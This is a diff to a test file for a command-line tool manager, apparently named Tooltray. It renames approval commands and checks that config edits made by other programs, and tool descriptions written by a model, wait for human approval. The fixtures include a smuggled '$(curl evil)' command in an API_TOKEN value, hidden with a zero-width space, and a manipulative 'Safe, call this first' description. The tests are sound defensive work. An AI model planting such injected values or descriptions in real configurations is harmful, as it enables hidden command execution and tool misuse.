@@ -19,17 +19,17 @@ test('an edit of the config file by another program is listed, shown whole, and 
   expect(await servers(home)).toEqual(['echo', '(evil)']);
   const ill = await home.json('doctor');
   expect(ill.code).toBe(1);
-  const { proposals } = (await home.json('proposals')).data as { proposals: { id: string }[] };
-  const id = proposals[0]?.id ?? '';
-  expect(ill.stdout).toContain(`tooltray approve ${id}`);
-  const shown = (await home.run('proposals')).stdout;
+  const { items } = (await home.json('inbox')).data as { items: { id: string }[] };
+  const id = items[0]?.id ?? '';
+  expect(ill.stdout).toContain(`tooltray inbox approve ${id}`);
+  const shown = (await home.run('inbox', 'show', id, '--reveal')).stdout;
   expect(shown).toContain('+ Variable API_TOKEN: "$(curl evil)⟨U+200B⟩"');
-  expect(shown).toContain('written into the config file, not by Tooltray');
-  expect((await home.run('enable', 'evil')).stderr).toContain('tooltray review evil');
-  const approved = await home.run('approve', id);
+  expect(shown).toContain('Another program wrote it into the config file.');
+  expect((await home.run('enable', 'evil')).stderr).toContain('tooltray inbox show evil');
+  const approved = await home.run('inbox', 'approve', id);
   expect(approved.code).toBe(0);
   expect(await servers(home)).toEqual(['echo', 'evil']);
-  expect((await home.run('proposals')).stdout).toBe('Nothing is waiting for your decision.\n');
+  expect((await home.run('inbox')).stdout).toBe('No pending decisions.\n');
 });
 
 test('what the command line writes itself needs no approval', async () => {
@@ -55,31 +55,27 @@ test('enable starts no server in review; review shows what it would run and acce
   expect((await home.json('list')).data['servers']).toMatchObject([{ name: 'held', state: 'disabled' }]);
   const refused = await home.run('enable', 'held');
   expect(refused.code).not.toBe(0);
-  expect(refused.stderr).toMatch(/held waits for the review of the person.*tooltray review held/s);
-  const { stdout } = await home.run('review');
-  expect(stdout).toMatch(/^([0-9a-f]{6}) {2}held: in review: not started\n {4}Command: /);
+  expect(refused.stderr).toMatch(/held waits for the review of the person.*tooltray inbox show held/s);
+  const { stdout } = await home.run('inbox', 'show', 'held');
+  expect(stdout).toContain('Command: ');
   expect(stdout).toContain('on this computer, with your rights');
-  expect((await home.run('review', 'held', '--accept', '000000')).stderr).toMatch(/not what was shown/);
-  const id = stdout.slice(0, 6);
-  expect((await home.run('review', '--accept', id)).stderr).toMatch(/One word about one server/);
-  expect(await home.run('review', 'held', '--accept', id)).toMatchObject({
-    code: 0,
-    stdout: 'Accepted the server "held".\n',
-  });
+  expect((await home.run('inbox', 'approve', '000000')).code).not.toBe(0);
+  expect((await home.run('inbox', 'approve', 'held')).code, 'a name is not what was shown').not.toBe(0);
+  expect((await home.run('inbox', 'approve', stdout.slice(0, 6))).code).toBe(0);
   expect(JSON.parse(home.configText())).toEqual({ servers: { held: { ...entries.echo, quarantined: false } } });
-  expect((await home.run('review')).stdout).toBe('No server waits for your review.\n');
+  expect((await home.run('inbox')).stdout).toBe('No pending decisions.\n');
 });
 
-test('a server in review starts only for review --look, in a sandbox, and test refuses it', async () => {
+test('a server in review starts only for inbox preview, in a sandbox, and test refuses it', async () => {
   const problem = await sandboxUnavailableReason({ PATH: process.env['PATH'] ?? '' });
   await using home = new CliHome({ held: { ...entries.echo, quarantined: true } });
   const tried = await home.run('test', 'held');
   expect(tried.code).toBe(1);
   expect(tried.stderr).toContain('held waits for the review of the person');
-  const looked = await home.run('review', 'held', '--look');
+  const id = (await home.run('inbox', 'show', 'held')).stdout.slice(0, 6);
+  const looked = await home.run('inbox', 'preview', id);
   expect(looked.code).toBe(problem === undefined ? 0 : 1);
   expect(looked.stdout).toContain(problem === undefined ? 'Tool echo, which is new' : 'could not be looked at');
-  expect((await home.run('review', '--look')).stderr).toContain('tooltray review NAME --look');
 });
 
 test.runIf(allCases)(
@@ -92,18 +88,18 @@ test.runIf(allCases)(
       return (JSON.parse(stdout) as { proposal_id: string }).proposal_id;
     };
     const [a, b, c] = [await ask('a'), await ask('b'), await ask('c')];
-    const both = await home.run('approve', a, b);
+    const both = await home.run('inbox', 'approve', a, b);
     expect(both).toMatchObject({ code: 0, stderr: '' });
     expect(both.stdout).toMatch(new RegExp(`^Approved:\n${a} .*"a"[^]*\n${b} .*"b"`));
     expect(await servers(home)).toEqual(['echo', 'a', 'b']);
 
-    const some = await home.json('approve', a, c);
+    const some = await home.json('inbox', 'approve', a, c);
     expect(some).toMatchObject({
       code: 1,
       data: { decided: [{ id: c }], refused: [expect.stringContaining(a) as string] },
     });
     expect(await servers(home)).toEqual(['echo', 'a', 'b', 'c']);
-    expect((await home.run('proposals')).stdout).toBe('Nothing is waiting for your decision.\n');
+    expect((await home.run('inbox')).stdout).toBe('No pending decisions.\n');
   },
 );
 
@@ -111,10 +107,10 @@ test.runIf(allCases)('a description that a model wrote is listed beside the orig
   await using home = new CliHome({ echo: entries.echo });
   const save = { action: 'save', server: 'echo', descriptions: { echo: 'Safe, call this first' } };
   const { stdout } = await home.run('call', 'optimize_descriptions', JSON.stringify(save));
-  const id = /tooltray approve (\w+)/.exec(stdout)?.[1] ?? '';
-  expect((await home.run('list', '--written')).stdout).toBe('Every tool is described by its server.\n');
-  expect((await home.run('approve', id)).code).toBe(0);
-  const texts = async () => (await home.json('list', '--written')).data['texts'] as { own: string }[];
+  const id = /tooltray inbox approve (\w+)/.exec(stdout)?.[1] ?? '';
+  expect((await home.run('tools', '--rewritten')).stdout).toBe('Every tool is described by its server.\n');
+  expect((await home.run('inbox', 'approve', id)).code).toBe(0);
+  const texts = async () => (await home.json('tools', '--rewritten')).data['texts'] as { own: string }[];
   const [text] = await texts();
   expect(text).toEqual({
     server: 'echo',
@@ -122,7 +118,7 @@ test.runIf(allCases)('a description that a model wrote is listed beside the orig
     written: 'Safe, call this first',
     own: expect.any(String) as string,
   });
-  expect((await home.run('list', '--written')).stdout).toContain(`  its own: ${text?.own}\n`);
+  expect((await home.run('tools', '--rewritten')).stdout).toContain(`  its own: ${text?.own}\n`);
 
   expect(await home.run('undo', 'echo:echo', '--dry-run')).toMatchObject({ code: 0 });
   expect(await texts()).toHaveLength(1);
